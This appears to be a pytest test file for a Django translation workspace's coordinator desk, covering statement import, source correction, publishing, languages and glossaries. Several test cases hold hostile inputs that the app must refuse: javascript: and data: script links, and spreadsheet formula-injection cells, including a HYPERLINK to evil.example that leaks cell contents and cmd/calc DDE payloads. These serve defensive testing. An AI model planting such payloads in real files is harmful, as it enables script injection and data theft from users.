"""The coordinator's desk (issue 33): a statement brought in (previewed before anything is
written), a source corrected paragraph by paragraph, a translation published or withdrawn, a
language added, a glossary edited; each for the right role only, through the functions the
command line calls, and every malformed input refused with one message and nothing written."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
from html import unescape
from pathlib import Path

import polib
import pytest
from django.test import Client
from django.utils import timezone
from django.utils.translation import override

from editions.catalogs.glossary import GlossaryRow, save_glossary
from editions.checks import Rules, load_glossary
from editions.errors import EditionsError
from editions.project import load_project
from editions.sources import importer
from editions.workspace import desk, team
from editions.workspace.models import Role, Withdrawal

from .conftest import PASSWORD, _as, member, tree_digest, workspace_committing

VIETNAM = "vietnam-ukraine-solidarity"
#: A statement as it circulates: its second paragraph split by a page break mid-sentence.
PASTED = """\
Solidarity with the dockers of Genoa

The dockers of Genoa refused to load weapons bound for the war, and their union stood
by them against the port authority, which threatened

every one of them with dismissal.

We call on every union to do the same.

Fourth International
12 March 2026
"""


@pytest.fixture
def desk_crew(crew):
    """The crew, an administrator, and an Arabic coordinator."""
    admin = team.accept(team.pending_invitation(team.invite(administrator=True)), "Admin",
                        PASSWORD)
    return {**crew, "admin": admin, "ar-coordinator": member("ar", Role.COORDINATOR, "Nawras")}


@pytest.fixture
def rebuilds(monkeypatch):
    """What the desk asked to be rebuilt: (languages, reason) per call of ``desk.changed``."""
    calls: list[tuple[tuple[str, ...], str]] = []
    monkeypatch.setattr(desk, "changed", lambda project, languages, reason, written:
                        calls.append((tuple(languages), reason)))
    return calls


def _messages(response) -> list[str]:
    return [str(m) for m in response.context["messages"]] if response.context else []


def _block(project, slug: str, starts: str):
    return next(b for b in desk.source_blocks(project, slug) if b.text.startswith(starts))


# -- who may do what -----------------------------------------------------------------------

def _pages(project) -> dict[str, str]:
    first = desk.source_blocks(project, VIETNAM)[1]
    return {"desk": "/desk/", "import": "/desk/import/", "source": f"/desk/source/{VIETNAM}/",
            "correct": f"/desk/source/{VIETNAM}/{first.number}/",
            "publish": "/desk/fr/publish/", "glossary": "/desk/fr/glossary/"}


def _writes(project) -> list[tuple[str, str, dict]]:
    first = desk.source_blocks(project, VIETNAM)[1]
    return [
        ("import", "/desk/import/", {"text": PASTED, "action": "preview"}),
        ("correct", f"/desk/source/{VIETNAM}/{first.number}/",
         {"text": "Changed.", "expected": first.text}),
        ("withdraw", f"/desk/fr/publish/{VIETNAM}/", {"action": "withdraw"}),
        ("glossary", "/desk/fr/glossary/", {"form-TOTAL_FORMS": "0",
                                            "form-INITIAL_FORMS": "0", "version": ""}),
        ("language", "/desk/languages/", {"code": "pt"}),
    ]


def test_the_desk_opens_to_coordinators_and_administrators_only(project, desk_crew):
    pages = _pages(project)
    for who in ("fr-coordinator", "admin"):
        client = _as(desk_crew[who])
        for name, url in pages.items():
            assert client.get(url).status_code == 200, (who, name)
    assert "/desk/" in _as(desk_crew["fr-coordinator"]).get("/").content.decode()
    for who in ("fr-translator", "fr-reviewer", "ar-translator"):
        client = _as(desk_crew[who])
        assert "/desk/" not in client.get("/").content.decode()
        for name, url in pages.items():
            assert client.get(url).status_code == 403, (who, name)
    # Another language's coordinator: the shared source, but not French publishing.
    arabic = _as(desk_crew["ar-coordinator"])
    assert arabic.get(pages["source"]).status_code == 200
    assert arabic.get(pages["publish"]).status_code == 403
    assert arabic.get(pages["glossary"]).status_code == 403
    assert arabic.get("/desk/ar/glossary/").status_code == 200
    anonymous = Client().get("/desk/")
    assert anonymous.status_code == 302 and "/login/" in anonymous["Location"]


def test_every_write_of_the_desk_is_refused_to_others_and_without_a_csrf_token(
        project, desk_crew):
    before = tree_digest(project.root)
    forged = Client(enforce_csrf_checks=True)
    forged.force_login(desk_crew["admin"])
    for name, url, form in _writes(project):
        refused = ["fr-translator", "fr-reviewer", "ar-translator"]
        if name in ("withdraw", "glossary"):
            refused.append("ar-coordinator")
        if name == "language":
            refused += ["fr-coordinator", "ar-coordinator"]
        for who in refused:
            assert _as(desk_crew[who]).post(url, form).status_code == 403, (who, name)
        assert forged.post(url, {**form, "csrfmiddlewaretoken": "forged"}).status_code == 403
    assert tree_digest(project.root) == before and not Withdrawal.objects.exists()


# -- bringing a statement in ---------------------------------------------------------------

def test_a_pasted_statement_is_previewed_then_brought_in_with_its_catalogs(
        project, desk_crew, rebuilds):
    client = _as(desk_crew["fr-coordinator"])
    before = tree_digest(project.root)
    response = client.post("/desk/import/", {"text": PASTED, "action": "preview"})
    html = response.content.decode()
    assert response.status_code == 200 and tree_digest(project.root) == before
    assert "Solidarity with the dockers of Genoa" in html and "Fourth International" in html
    assert "2026-03-12" in html and "solidarity-with-the-dockers-of-genoa" in html
    # The paragraph the page break split is one again.
    assert "which threatened every one of them with dismissal." in html
    previewed = re.search(r'name="previewed" value="([0-9a-f]{64})"', html).group(1)
    # A confirmation of another text than the one previewed only previews it.
    response = client.post("/desk/import/", {"text": PASTED.replace("load", "carry"),
                                             "action": "confirm", "previewed": previewed})
    assert response.status_code == 200 and tree_digest(project.root) == before
    assert "The text changed since its preview" in response.content.decode()
    response = client.post("/desk/import/", {"text": PASTED, "action": "confirm",
                                             "previewed": previewed}, follow=True)
    slug = "solidarity-with-the-dockers-of-genoa"
    assert response.redirect_chain[-1][0] == f"/desk/source/{slug}/"
    source = (project.srcdir / f"{slug}.rst").read_text(encoding="utf-8")
    assert ":author: Fourth International" in source and ":date: 2026-03-12" in source
    for code in project.languages:
        po = polib.pofile(str(project.catalog_path(code, slug)))
        assert any(e.msgid.endswith("every one of them with dismissal.") for e in po), code
    assert rebuilds == [(project.editions, "import")]
    assert client.get(f"/fr/{slug}/").status_code == 200
    # The same confirmation sent again (a double click, the back button) is no new name to
    # choose: it was brought in already, and nothing changes.
    after = tree_digest(project.root)
    again = client.post("/desk/import/", {"text": PASTED, "action": "confirm",
                                          "previewed": previewed}, follow=True)
    assert again.redirect_chain[-1][0] == f"/desk/source/{slug}/"
    assert _messages(again) == ["This text was brought in already: nothing was changed."]
    assert tree_digest(project.root) == after and len(rebuilds) == 1


def test_an_uploaded_file_is_previewed_like_a_paste(project, desk_crew):
    client = _as(desk_crew["fr-coordinator"])
    upload = io.BytesIO(PASTED.encode("utf-8"))
    upload.name = "genoa.md"
    html = client.post("/desk/import/", {"upload": upload, "action": "preview"}
                       ).content.decode()
    assert "Solidarity with the dockers of Genoa" in html
    assert "which threatened every one of them with dismissal." in html
    # The text travels on in the form: the confirmation needs no second upload.
    assert "The dockers of Genoa refused" in html.split('name="text"')[1]


@pytest.mark.parametrize(("form", "message"), [
    ({"text": "   \n"}, "Paste the statement's text or choose its file."),
    ({"text": "---\n"}, "No statement was found: a statement begins with its title line."),
    ({"text": PASTED, "slug": VIETNAM}, f"A statement named “{VIETNAM}” exists already"),
    ({"text": PASTED, "slug": "Not a slug"}, "A file name has only lowercase letters"),
    ({"text": PASTED, "slug": "search"}, "“search” is the name of a page every edition has"),
    ({"text": "Two\n\nText.\n\nAnn\n\n---\n\nTwo\n\nMore.\n\nBob\n"},
     "Two statements of the text would be named “two”"),
    ({"text": "Two\n\nText.\n\nAnn\n\n---\n\nThree\n\nMore.\n\nBob\n", "slug": "two"},
     "The text holds 2 statements"),
    ({"text": PASTED.replace("Fourth International\n12 March 2026\n", "")},
     "is not signed: give its author or signatory body."),
    ({"upload": ("statement.pdf", b"%PDF-1.7\n\x00\x01\x02binary")},
     "This file is not plain text"),
    ({"upload": ("big.txt", b"Title\n\n" + b"word " * 120_000)}, "This file is larger than"),
])
def test_malformed_statements_are_refused_with_one_message_and_nothing_written(
        project, desk_crew, rebuilds, form, message):
    client = _as(desk_crew["fr-coordinator"])
    before = tree_digest(project.root)
    for action in ("preview", "confirm"):
        sent = dict(form)
        if "upload" in form:
            name, data = form["upload"]
            sent["upload"] = io.BytesIO(data)
            sent["upload"].name = name
        response = client.post("/desk/import/", {**sent, "action": action})
        html = unescape(response.content.decode())
        assert response.status_code == 200 and message in html, html
        assert html.count('role="alert"') == 1
    assert tree_digest(project.root) == before and rebuilds == []


def test_every_import_rule_is_said_in_the_coordinators_language():
    """The importer names the rule a text breaks; the desk says each in its own words."""
    values = {"count": 2, "slug": "two", "example": "two", "title": "Two"}
    for rule in importer.REFUSALS:
        refused = importer.ImportRefused("in English", rule=rule, values=values)
        with override("en"):  # (not whatever language an earlier test left active)
            english = desk._refusal_words(refused)
        with override("fr"):
            french = desk._refusal_words(refused)
        with override("ar"):
            arabic = desk._refusal_words(refused)
        assert len({english, french, arabic}) == 3, rule
    # A rule the desk has no words for yet: the command's own message, never an error page.
    unknown = importer.ImportRefused("in the command's words", rule="a-rule-added-later")
    assert desk._refusal_words(unknown) == "in the command's words"


def test_a_name_taken_between_preview_and_import_is_refused_in_the_desks_words(project):
    """Another hand brings a statement of the same name in meanwhile: the import, checked
    again under the lock, refuses, and the coordinator is told so in their language."""
    planned = desk.plan_import(project, PASTED)  # (the preview the coordinator saw)
    (project.srcdir / f"{planned[0].slug}.rst").write_text("Taken\n=====\n",
                                                           encoding="utf-8")
    with override("fr"), pytest.raises(desk.Refusal) as refused:
        desk.import_statements(project, PASTED)
    assert str(refused.value).startswith("Une déclaration nommée")
    assert "--" not in str(refused.value)  # (not the command's hint)


# -- correcting a source -------------------------------------------------------------------

def test_a_correction_keeps_the_translations_of_changed_segments_as_needing_work(
        project, desk_crew, rebuilds):
    block = _block(project, VIETNAM, "Fifty years on")
    old = block.text
    new = old.replace("it is vital", "it is essential")
    untouched = {code: {e.msgid: e.msgstr for e in polib.pofile(
        str(project.catalog_path(code, VIETNAM))) if e.msgid != old}
        for code in project.languages}
    french_before = polib.pofile(str(project.catalog_path("fr", VIETNAM))).find(old).msgstr
    assert french_before
    client = _as(desk_crew["ar-coordinator"])  # (any language's coordinator: the shared source)
    response = client.post(f"/desk/source/{VIETNAM}/{block.number}/",
                           {"text": new, "expected": old}, follow=True)
    assert "catalogs were updated" in " ".join(_messages(response))
    assert new in (project.srcdir / f"{VIETNAM}.rst").read_text(encoding="utf-8")
    for code in project.languages:
        po = polib.pofile(str(project.catalog_path(code, VIETNAM)))
        entry = po.find(new)
        if code == "fr":
            assert entry.msgstr == french_before
        if entry.msgstr:
            assert "fuzzy" in entry.flags and entry.previous_msgid == old, code
        assert {e.msgid: e.msgstr for e in po if e.msgid != new and not e.obsolete} == {
            k: v for k, v in untouched[code].items() if k in {e.msgid for e in po}}, code
    assert rebuilds and rebuilds[0][0][0] == project.source_language
    # Translators see the word that changed.
    french = _as(desk_crew["fr-reviewer"])
    key = next(e.key for e in catalogs_entries(project) if e.source == new)
    html = french.get(f"/fr/{VIETNAM}/{key}/").content.decode()
    assert "<del>vital</del>" in html and "<ins>essential</ins>" in html


def catalogs_entries(project):
    from editions.catalogs import entries

    return entries.read_entries(project, "fr", VIETNAM)


@pytest.mark.parametrize(("text", "message"), [
    ("", "A paragraph needs words"),
    ("- now a list", "would no longer be one paragraph"),
    ("A *broken emphasis.", "Its markup is not closed"),
    # Found: these were "markup not closed", which tells nobody what to write instead.
    ("Fifty years on::", "write “|” as “\\|”"), ("A |word| here.", "a final “::” as"),
    ("A word_ here.", "at the end of a word"), ("A note [1]_ here.", "at the end of a word"),
    # A link readers' browsers would run (the source is what translations are checked by).
    ("Read `the appeal <javascript:alert(document.domain)>`_ now.", "only to a web page"),
    ("Read javascript:alert(document.domain) now.", "only to a web page"),
    ("Read `it <DATA:text/html;base64,PHNjcmlwdD4=>`_.", "only to a web page"),
])
def test_a_correction_that_would_break_the_source_is_refused(project, desk_crew, text,
                                                             message):
    block = _block(project, VIETNAM, "Fifty years on")
    before = tree_digest(project.root)
    response = _as(desk_crew["fr-coordinator"]).post(
        f"/desk/source/{VIETNAM}/{block.number}/", {"text": text, "expected": block.text})
    html = unescape(response.content.decode())
    assert response.status_code == 200 and message in html and html.count('role="alert"') == 1
    assert tree_digest(project.root) == before


def test_a_correction_of_a_paragraph_changed_meanwhile_is_refused(project, desk_crew):
    block = _block(project, VIETNAM, "Fifty years on")
    before = tree_digest(project.root)
    response = _as(desk_crew["fr-coordinator"]).post(
        f"/desk/source/{VIETNAM}/{block.number}/",
        {"text": "Something else.", "expected": "What the page showed, long ago."})
    assert "changed by someone else since you opened it" in response.content.decode()
    assert tree_digest(project.root) == before


def test_a_heading_is_corrected_with_its_underline(project):
    block = desk.source_blocks(project, VIETNAM)[0]
    assert block.kind == "heading"
    desk.correct(project, VIETNAM, block.number, block.text, "Vietnam: a victory")
    lines = (project.srcdir / f"{VIETNAM}.rst").read_text(encoding="utf-8").splitlines()
    assert lines[:2] == ["Vietnam: a victory", "=" * len("Vietnam: a victory")]


# -- publishing ----------------------------------------------------------------------------

def test_publishing_refuses_an_incomplete_translation_with_its_reasons(project, desk_crew,
                                                                       rebuilds):
    german = member("de", Role.COORDINATOR, "Kauz")
    before = tree_digest(project.root)
    client = _as(german)
    page = client.get("/desk/de/publish/").content.decode()
    assert "Not publishable yet:" in page and "segments to translate" in page
    response = client.post(f"/desk/de/publish/{VIETNAM}/", {"action": "publish"}, follow=True)
    (message,) = _messages(response)
    assert message.startswith("This translation cannot be published yet: ")
    assert "segments to translate" in message
    assert tree_digest(project.root) == before and rebuilds == []


def test_a_translation_is_withdrawn_with_its_reason_and_published_again(project, desk_crew,
                                                                        rebuilds):
    client = _as(desk_crew["fr-coordinator"])
    # Found: a reason over its length was dropped and the withdrawal done without it; a form
    # with another action than these two published.
    before = tree_digest(project.root)
    response = client.post(f"/desk/fr/publish/{VIETNAM}/",
                           {"action": "withdraw", "reason": "x" * 501}, follow=True)
    assert "at most 500 characters" in " ".join(_messages(response))
    assert client.post(f"/desk/fr/publish/{VIETNAM}/", {"action": "other"}).status_code == 400
    assert tree_digest(project.root) == before and not Withdrawal.objects.exists()
    response = client.post(f"/desk/fr/publish/{VIETNAM}/",
                           {"action": "withdraw", "reason": "A mistake in paragraph 3."},
                           follow=True)
    assert _messages(response) == ["Withdrawn: the edition no longer publishes it."]
    assert VIETNAM not in dict(load_project(project.root).published)["fr"]
    (withdrawal,) = Withdrawal.objects.all()
    assert withdrawal.reason == "A mistake in paragraph 3."
    assert {f.name for f in Withdrawal._meta.get_fields()} == {
        "id", "language", "statement", "reason", "at"}  # (nobody's name)
    assert withdrawal.at == timezone.localdate()  # (the day alone, not the second)
    assert "A mistake in paragraph 3." in response.content.decode()
    response = client.post(f"/desk/fr/publish/{VIETNAM}/", {"action": "publish"}, follow=True)
    assert _messages(response) == ["Published: the edition will show it once rebuilt."]
    assert VIETNAM in dict(load_project(project.root).published)["fr"]
    assert rebuilds == [(("fr",), "publication"),
                        (("fr",), "publication")]


# -- languages -----------------------------------------------------------------------------

def test_an_administrator_adds_a_language_with_its_catalogs(project, desk_crew, rebuilds):
    response = _as(desk_crew["admin"]).post("/desk/languages/", {"code": "pt"}, follow=True)
    assert _messages(response) == ["Português was added, with its catalogs: invite its team."]
    added = load_project(project.root)
    assert "pt" in added.languages
    assert added.catalog_path("pt", VIETNAM).exists()
    assert rebuilds == [(("pt",), "language")]


@pytest.mark.parametrize(("code", "message"), [
    ("", "Give the language's code"), ("xx-nonsense", "is not a language code"),
    ("fr", "This language is already translated here."),
    ("und", "is not a language code"),
    ("iw", "“iw” is an old code for this language: give “he”.")])
def test_an_unknown_or_repeated_language_code_is_refused(project, desk_crew, code, message):
    before = tree_digest(project.root)
    response = _as(desk_crew["admin"]).post("/desk/languages/", {"code": code}, follow=True)
    (shown,) = _messages(response)
    assert message in shown and tree_digest(project.root) == before


# -- glossaries ----------------------------------------------------------------------------

def _glossary_form(rows: list[tuple[str, str, str]], version: str, delete=()) -> dict:
    form = {"form-TOTAL_FORMS": str(len(rows)), "form-INITIAL_FORMS": "0",
            "form-MIN_NUM_FORMS": "0", "form-MAX_NUM_FORMS": "2000", "version": version}
    for number, (term, translation, note) in enumerate(rows):
        form.update({f"form-{number}-term": term, f"form-{number}-translation": translation,
                     f"form-{number}-note": note})
        if number in delete:
            form[f"form-{number}-DELETE"] = "on"
    return form


def test_a_glossary_edited_in_its_table_is_the_csv_the_checks_read(project, desk_crew,
                                                                   rebuilds):
    client = _as(desk_crew["fr-coordinator"])
    page = client.get("/desk/fr/glossary/").content.decode()
    assert "Quatrième Internationale" in page
    version = re.search(r'name="version" value="([0-9a-f]{64})"', page).group(1)
    path = project.locale_dir / "fr" / "glossary.csv"
    rows = [(t.term, t.translation, t.note) for t in load_glossary(path)]
    rows += [("solidarity", "solidarité", "Une note, avec « guillemets », virgule"),
             ("", "", ""), ("dropped", "supprimé", "")]
    response = client.post("/desk/fr/glossary/",
                           _glossary_form(rows, version, delete={len(rows) - 1}), follow=True)
    assert _messages(response) == [f"Saved: {len(rows) - 2} terms."]
    terms = load_glossary(path)
    assert [t.term for t in terms][-1] == "solidarity"
    assert terms[-1].note == "Une note, avec « guillemets », virgule"
    assert "dropped" not in path.read_text(encoding="utf-8")
    # The checks hold translators to the new term at once.
    rules = Rules.live(project, "fr", VIETNAM)
    findings = rules.check_text("Our solidarity.", "Notre entraide.", (), 1)
    assert any(f.check == "glossary" for f in findings)
    assert rebuilds == [(("fr",), "glossary")]


@pytest.mark.parametrize(("rows", "message"), [
    # (Named by its words: the page numbers no row, and shows its new rows first.)
    ([("genocide", "génocide", ""), ("Genocide", "génocide", "")],
     "The term “Genocide” is given twice"),
    ([("solidarity", "", "")], "The row “solidarity” needs both a term and its rendering."),
    # A cell a spreadsheet would run as a formula when a coordinator opens glossary.csv.
    ([("war", "guerre", ""), ('=HYPERLINK("https://evil.example/?"&A1,"x")', "y", "")],
     'The row “=HYPERLINK("https://evil.example/?"&A1,"x")” begins with'),
    ([("peace", "+cmd|' /C calc'!A0", "")], "The row “peace” begins with"),
    ([("peace", "paix", "@SUM(1+1)*cmd|' /C calc'!A0")], "The row “peace” begins with"),
])
def test_a_malformed_glossary_is_refused_and_nothing_written(project, desk_crew, rows,
                                                             message):
    client = _as(desk_crew["fr-coordinator"])
    page = client.get("/desk/fr/glossary/").content.decode()
    version = re.search(r'name="version" value="([0-9a-f]{64})"', page).group(1)
    before = tree_digest(project.root)
    response = client.post("/desk/fr/glossary/", _glossary_form(rows, version))
    html = unescape(response.content.decode())
    assert message in html and html.count('role="alert"') == 1
    assert tree_digest(project.root) == before


def test_a_glossary_cell_too_long_is_said_beside_it(project, desk_crew):
    """Found: a cell over its length (a browser that does not hold to maxlength) was
    refused with no word on the page."""
    client = _as(desk_crew["fr-coordinator"])
    page = client.get("/desk/fr/glossary/").content.decode()
    version = re.search(r'name="version" value="([0-9a-f]{64})"', page).group(1)
    before = tree_digest(project.root)
    html = unescape(client.post("/desk/fr/glossary/", _glossary_form(
        [("t" * 201, "x", "")], version)).content.decode())
    assert "at most 200 characters" in html and 'role="alert"' in html
    assert tree_digest(project.root) == before


def test_a_glossary_changed_meanwhile_is_not_overwritten(project, desk_crew):
    client = _as(desk_crew["fr-coordinator"])
    page = client.get("/desk/fr/glossary/").content.decode()
    version = re.search(r'name="version" value="([0-9a-f]{64})"', page).group(1)
    save_glossary(project, "fr", [GlossaryRow("Nakba", "Nakba")])
    before = tree_digest(project.root)
    response = client.post("/desk/fr/glossary/", _glossary_form([("a", "b", "")], version))
    assert "changed by someone else since you opened it" in response.content.decode()
    assert tree_digest(project.root) == before


def test_a_glossary_saved_twice_and_persian_words_are_taken(project, desk_crew):
    """Found: the same glossary form sent twice was "changed by someone else"; a Persian
    rendering with its zero-width non-joiner, or an Arabic one with the direction mark a
    phone leaves at its end, was refused as invisible."""
    client = _as(desk_crew["fr-coordinator"])
    page = client.get("/desk/fr/glossary/").content.decode()
    version = re.search(r'name="version" value="([0-9a-f]{64})"', page).group(1)
    form = _glossary_form([("solidarity", "هم\u200cبستگی", ""), ("Nakba", "نكبة\u200f", "")],
                          version)
    first = client.post("/desk/fr/glossary/", form, follow=True)
    again = client.post("/desk/fr/glossary/", form, follow=True)
    for answer in (first, again):
        assert "changed by someone else" not in answer.content.decode()
        assert 'role="alert"' not in answer.content.decode(), _messages(answer)
    written = project.glossary_path("fr").read_text(encoding="utf-8")
    assert "هم\u200cبستگی" in written and "نكبة\n" in written.replace(",,", "\n").replace(
        ",\n", "\n"), written
    assert "\u200f" not in written


def test_the_glossary_writer_refuses_what_the_checks_could_not_read(project):
    before = tree_digest(project.root)
    for rows in ([GlossaryRow("a\nb", "c")], [GlossaryRow("x", "y"), GlossaryRow("X", "z")]):
        with pytest.raises(EditionsError):
            save_glossary(project, "fr", rows)
    with pytest.raises(EditionsError):
        save_glossary(project, "en", [GlossaryRow("x", "y")])
    assert tree_digest(project.root) == before


# -- the desk in the volunteers' languages -------------------------------------------------

DESK_SOURCES = [Path(desk.__file__), Path(desk.__file__).parent / "views" / "desk.py",
                Path(desk.__file__).parent / "forms.py",
                *sorted((Path(desk.__file__).parent / "templates" / "workspace").glob(
                    "desk*.html")),
                *(Path(desk.__file__).parent / "templates" / "workspace" / name
                  for name in ("languages.html", "team.html", "builds.html")),
                Path(desk.__file__).parent / "views" / "builds.py"]


def _desk_msgids(tmp_path: Path) -> set[str]:
    """Every interface string of the desk, as xgettext (Django's makemessages) finds it."""
    from django.utils.translation.template import templatize

    xgettext = shutil.which("xgettext")
    if xgettext is None:
        pytest.skip("GNU gettext's xgettext is not installed (make test installs it)")
    files = []
    for source in DESK_SOURCES:
        if source.suffix == ".html":
            target = tmp_path / f"{source.name}.py"
            target.write_text(templatize(source.read_text(encoding="utf-8"), origin=str(source)),
                              encoding="utf-8")
            files.append(str(target))
        else:
            files.append(str(source))
    pot = tmp_path / "desk.pot"
    subprocess.run([xgettext, "--language=Python", "--from-code=UTF-8", "--keyword=gettext_noop",
                    "--keyword=gettext_lazy", "--keyword=ngettext_lazy:1,2",
                    "--keyword=pgettext:1c,2", "--keyword=npgettext:1c,2,3",
                    "--keyword=pgettext_lazy:1c,2", "--keyword=npgettext_lazy:1c,2,3",
                    "--keyword=ngettext:1,2", "-o", str(pot), *files], check=True)
    return {entry.msgid for entry in polib.pofile(str(pot)) if entry.msgid}


@pytest.mark.parametrize("language", ["fr", "es", "de", "ar", "uk"])
def test_every_word_of_the_desk_is_translated(tmp_path, language):
    from .test_workspace import INTERFACE_LOCALE

    catalog = polib.pofile(str(INTERFACE_LOCALE / language / "LC_MESSAGES" / "django.po"))
    translated = {e.msgid for e in catalog if e.translated() and not e.obsolete}
    missing = sorted(_desk_msgids(tmp_path) - translated)
    assert not missing, missing


@pytest.mark.parametrize("language", ["fr", "ar"])
def test_the_desk_pages_speak_the_coordinators_language(project, desk_crew, language):
    client = _as(desk_crew["admin"])
    client.post("/i18n/setlang/", {"language": language, "next": "/"})
    for url in _pages(project).values():
        html = client.get(url).content.decode()
        assert f'<html lang="{language}"' in html
        for english in ("Coordinator's desk", "Bring a statement in", "Publish or withdraw",
                        "Correct a paragraph", "Agreed rendering", "Not publishable yet"):
            assert english not in html, (url, english)
    german = client.get("/desk/de/publish/").content.decode()
    shown = re.search(r'<ul class="reasons"><li>([^<]*)</li>', german).group(1)
    count = int(re.search(r"\d+", shown).group())
    with override(language):
        from django.utils.translation import ngettext

        assert shown == ngettext("%(count)d segment to translate",
                                 "%(count)d segments to translate", count) % {"count": count}
    assert "to translate" not in shown


def test_the_originals_text_fields_say_its_language(project, desk_crew):
    """The statement pasted, previewed or corrected is English in an Arabic page: its field
    says so (a screen reader speaks it as English, a spelling checker checks it as such),
    and so does the file name made of its title."""
    client = _as(desk_crew["admin"])
    client.post("/i18n/setlang/", {"language": "ar", "next": "/"})
    first = desk.source_blocks(project, VIETNAM)[1]
    preview = client.post("/desk/import/", {"text": PASTED, "action": "preview"})
    for html in (client.get("/desk/import/").content.decode(), preview.content.decode(),
                 client.get(f"/desk/source/{VIETNAM}/{first.number}/").content.decode()):
        assert re.search(r'<textarea name="text"[^>]* lang="en" dir="ltr"', html), html
    assert re.search(r'<code lang="en" dir="ltr">solidarity-with-the-dockers-of-genoa</code>',
                     preview.content.decode())


def test_the_paragraph_to_correct_is_shown_as_it_reads_now(project, desk_crew):
    """(A template's own ``block`` once hid the paragraph: the page showed an empty box, and
    its Cancel link lost the paragraph's place.) The markup help shows its link's address."""
    first = desk.source_blocks(project, VIETNAM)[1]
    html = _as(desk_crew["admin"]).get(f"/desk/source/{VIETNAM}/{first.number}/",
                                       HTTP_ACCEPT_LANGUAGE="fr").content.decode()
    shown = re.search(r'<div class="source-text" lang="en" dir="ltr">([^<]*)</div>', html)
    assert unescape(shown.group(1)) == first.text
    assert f'href="/desk/source/{VIETNAM}/#block-{first.number}"' in html
    assert "`texte &lt;https://…&gt;`_" in html


def test_a_desk_change_asks_the_workspace_for_a_rebuild(project, desk_crew) -> None:
    """The desk's hook is the background rebuild's request: one waiting build, its language
    and its reason, none made in the request."""
    from editions.workspace.models import Build

    desk.changed(project, ["fr"], "glossary", [project.glossary_path("fr")])
    desk.changed(project, ["uk"], "publication", [project.conf_py])
    waiting = Build.objects.get(status=Build.Status.REQUESTED)
    assert waiting.language_list == ["fr", "uk"], waiting.languages
    assert set(waiting.reasons.split(",")) == {"glossary", "publication"}
    assert not Build.objects.exclude(status=Build.Status.REQUESTED).exists()


def test_what_the_desk_writes_is_committed_where_the_workspace_commits(project, desk_crew):
    """``editions_workspace_commits``: a withdrawal (conf.py, the kept versions gone) and a
    publication are each one commit by the workspace, dated to the day, naming no one; the
    project's files are left with nothing uncommitted, for the team's CI to build from."""
    from .conftest import git

    git(project.root, "init", "-q")
    git(project.root, "add", ".")
    git(project.root, "commit", "-qm", "start")
    project.conf_py.write_text(project.conf_py.read_text(encoding="utf-8")
                               + "\neditions_workspace_commits = True\n", encoding="utf-8")
    git(project.root, "commit", "-qam", "commits on")
    project = load_project(project.root)

    def last() -> list[str]:
        return subprocess.run(["git", "-C", str(project.root), "log", "-1",
                               "--format=%an|%aI|%s"], capture_output=True, text=True,
                              check=True).stdout.strip().split("|")

    def uncommitted() -> str:
        return subprocess.run(["git", "-C", str(project.root), "status", "--porcelain", "--",
                               "conf.py", "source", "locale"], capture_output=True,
                              text=True, check=True).stdout

    assert desk.withdraw(project, "fr", VIETNAM, "a mistake in paragraph 3")
    author, day, subject = last()
    assert author == "Parallel Editions workspace" and "withdrawn" in subject
    assert day.endswith("T00:00:00Z") or day.endswith("T00:00:00+00:00")
    assert uncommitted() == ""
    assert desk.publish(load_project(project.root), "fr", VIETNAM)
    assert "published" in last()[2] and uncommitted() == ""


def test_the_desks_commits_take_what_it_wrote_and_no_hand_edit(project, desk_crew):
    """Each desk commit holds the files that desk action wrote; files somebody edited by
    hand and has not committed (another statement's source, a catalog) stay as they were,
    uncommitted, theirs to commit or drop."""
    project = workspace_committing(project)
    other = next(slug for slug in project.statements() if slug != VIETNAM)
    by_hand = [project.statement_source(other), project.catalog_path("uk", VIETNAM)]
    for path in by_hand:
        path.write_text(path.read_text(encoding="utf-8") + "\n", encoding="utf-8")

    def committed() -> set[str]:
        return set(subprocess.run(["git", "-C", str(project.root), "show", "--name-only",
                                   "--format=", "HEAD"], capture_output=True, text=True,
                                  check=True).stdout.split())

    assert desk.withdraw(project, "fr", VIETNAM, "a mistake")
    assert committed() == {"conf.py", f"locale/fr/published/{VIETNAM}.po",
                           f"locale/fr/published/{VIETNAM}.rst"}
    rows, version = desk.glossary_rows(project, "fr")
    desk.save_glossary(project, "fr", [*rows, GlossaryRow("strike", "grève")], version)
    assert committed() == {"locale/fr/glossary.csv"}
    block = desk.source_blocks(project, VIETNAM)[1]
    assert desk.correct(project, VIETNAM, block.number, block.text, block.text + " Now.")
    assert f"source/{VIETNAM}.rst" in committed()
    assert committed() <= {f"source/{VIETNAM}.rst", *(f"locale/{code}/LC_MESSAGES/{VIETNAM}.po"
                                                      for code in project.languages)}
    left = subprocess.run(["git", "-C", str(project.root), "status", "--porcelain"],
                          capture_output=True, text=True, check=True).stdout.splitlines()
    assert f" M {by_hand[0].relative_to(project.root)}" in left


def test_a_published_translation_being_updated_says_why_on_the_publish_page(project,
                                                                            desk_crew):
    """A published statement whose translation no longer passes stays published (readers
    see its kept version): its coordinator is told so, and what is left to do."""
    path = project.catalog_path("fr", VIETNAM)
    catalog = polib.pofile(str(path))
    next(entry for entry in catalog if entry.msgstr).flags.append("fuzzy")
    catalog.save()
    page = _as(desk_crew["fr-coordinator"]).get("/desk/fr/publish/").content.decode()
    row = page.split(f'id="row-{VIETNAM}"')[1].split('id="row-')[0]
    assert "Published." in row and "readers see its last published version" in row
    assert "needing" in row or "need" in row, row


@pytest.mark.parametrize(("language", "said"), [("fr", "12 mars 2026"), ("ar", "مارس")])
def test_the_import_preview_says_the_date_as_the_coordinators_language_does(
        project, desk_crew, language, said):
    client = _as(desk_crew["fr-coordinator"])
    client.cookies["django_language"] = language
    html = client.post("/desk/import/", {"text": PASTED, "action": "preview"}).content.decode()
    assert said in html and '<time datetime="2026-03-12">' in html


def test_the_glossarys_new_rows_and_a_save_button_come_before_the_agreed_terms(project,
                                                                              desk_crew):
    """On a phone each agreed term is a card: a coordinator adding one finds the empty rows
    and a button first, not after every card (French: some 12,000 px down)."""
    page = _as(desk_crew["fr-coordinator"]).get("/desk/fr/glossary/").content.decode()
    agreed = int(re.search(r'name="form-INITIAL_FORMS" value="(\d+)"', page).group(1))
    assert agreed > 3
    first_new = page.index(f'name="form-{agreed}-term"')
    first_agreed = page.index('name="form-0-term"')
    button = page.index('type="submit" class="primary"')
    assert first_new < button < first_agreed
    assert page.count(f'name="form-{agreed + 2}-term"') == 1  # (three new rows, once each)


def test_a_suggestion_follows_its_paragraph_when_the_source_is_corrected(
        project, desk_crew, rebuilds):
    """Found: a suggestion waiting for review on a paragraph a coordinator then corrected
    stayed on the old segment, which is gone: the reviewer's accept led to a 404, and the
